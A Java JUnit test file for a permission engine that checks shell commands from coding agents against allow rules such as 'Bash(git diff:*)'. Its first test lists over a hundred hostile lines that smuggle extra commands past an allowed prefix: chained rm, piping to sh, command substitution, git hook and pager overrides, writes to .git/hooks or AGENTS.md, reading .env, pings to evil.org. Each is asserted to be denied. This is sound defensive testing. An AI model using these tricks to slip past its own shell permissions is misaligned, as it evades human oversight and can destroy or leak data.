package dev.jackdaw.policy;

import static dev.jackdaw.policy.Fixture.decide;
import static org.assertj.core.api.Assertions.assertThat;

import dev.jackdaw.api.Decision;
import java.nio.file.Path;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The mechanisms by which shell rules of coding agents were evaded, by published advisories. */
class HostileLinesTest {
  @TempDir Path temp;

  @ParameterizedTest
  @ValueSource(
      strings = {
        "git diff; rm -rf x",
        "git diff && rm x",
        "git diff || rm x",
        "git diff | sh",
        "git diff & rm x",
        "git diff &rm x",
        "git diff\nrm x",
        "git diff\r\nrm x",
        "git diff\rrm x",
        "git diff |& sh",
        "git diff $(rm x)",
        "git diff \"$(rm x)\"",
        "git diff `rm x`",
        "git diff \"`rm x`\"",
        "git diff <(rm x)",
        "git diff >(rm x)",
        "git diff > .git/hooks/pre-commit",
        "git diff >> x",
        "git diff >| x",
        "git diff >! x",
        "git diff &> x",
        "git diff 2> x",
        "git diff 1>x",
        "git diff --output=x",
        "git diff --outp x",
        "git diff --ext-diff",
        "git diff --textconv",
        "git diff --no-index /etc/passwd x",
        "git -c core.fsmonitor=evil diff",
        "git -c diff.external=evil diff",
        "git --exec-path=. diff",
        "git difftool --extcmd=evil",
        "GIT_EXTERNAL_DIFF=evil git diff",
        "env GIT_PAGER=evil git diff",
        "export PATH=. && git diff",
        "PATH=.:$PATH git diff",
        "git\u00a0diff",
        "git diff \u202e x",
        "git di\u200bff",
        "git diff ${IFS}x",
        "git${IFS}diff",
        "git diff $IFS",
        "git diff ${x@P}",
        "git diff ${x:=$(rm x)}",
        "git diff ${!x}",
        "git diff $((1+1))",
        "git diff $'\\x41'",
        "git diff {a,b}",
        "git diff ~root",
        "git diff *",
        "git diff \\\nrm x",
        "git diff 'unbalanced",
        "git diff \"unbalanced",
        "git diff # x\nrm y",
        "git diff <<EOF\n$(rm x)\nEOF",
        "git diff <<<x",
        "cd .git && git diff",
        "cd /tmp; git diff",
        "(git diff; rm x)",
        "{ git diff; rm x; }",
        "! git diff; rm x",
        "if git diff; then rm x; fi",
        "coproc git diff",
        "time git diff; rm x",
        "sudo git diff",
        "nohup git diff",
        "xargs git diff",
        "timeout 5 git diff",
        "bash -c 'git diff; rm x'",
        "sh -c \"git diff\"",
        "eval git diff",
        "exec git diff; rm x",
        "command git diff; rm x",
        "./git diff",
        "/tmp/git diff",
        "git diff\u0000rm x",
        "git diff \u001b[2K rm x",
        "echo \"\\\"; rm x; echo \\\"\"",
        "echo 'a'\\''; rm x; '",
        "echo hi > .bashrc",
        "echo hi >> AGENTS.md",
        "echo $(cat .env)",
        "echo `id`",
        "echo ${PATH}",
        "echo a;echo b;id",
        "echo hi | tee x",
        "echo hi | xargs rm",
        "echo hi & id",
        "echo <(id)",
        "echo hi\nid",
        "echo \u2028id",
        "=ls",
        "ls >x",
        "ls; id",
        "ls $(id)",
        "ls | sh",
        "ls & id",
        "ls || id",
        "lsof",
        "ls\tx\nid",
        "ls .env | cat",
        "alias ls=rm; ls x",
        "function ls { rm x; }; ls",
        "ls() { rm x; }; ls",
        "trap 'rm x' EXIT; ls",
        "source evil; ls",
        ". ./evil; ls",
        "ping $(hostname).evil.org",
        "nslookup x.evil.org",
        "rg --pre=evil x",
        "find . -exec id",
        "sed -i s/a/b/ x",
        "awk 'BEGIN{system(\"id\")}'"
      })
  void isNotAllowedByRulesForSomethingElse(String line) {
    var on = Fixture.in(temp);
    var policy =
        on.allowing(
            "Bash(git diff:*)", "Bash(git diff *)", "Bash(echo:*)", "Bash(ls:*)", "Bash(ls *)");
    if (decide(on.builder().build(), on.bash(line)) instanceof Decision.Allow) return;
    assertThat(decide(policy, on.bash(line))).isNotInstanceOf(Decision.Allow.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "git diff",
        "git diff HEAD~3 -- src/A.java",
        "git diff --stat | ls",
        "echo 'a; b && c > d $(e)'",
        "echo \"it's fine\"",
        "ls -la src 2>/dev/null",
        "ls && git diff --cached"
      })
  void ordinaryLinesStayAllowed(String line) {
    var on = Fixture.in(temp);
    var policy = on.allowing("Bash(git diff:*)", "Bash(echo:*)", "Bash(ls:*)");
    assertThat(decide(policy, on.bash(line))).isInstanceOf(Decision.Allow.class);
  }
}
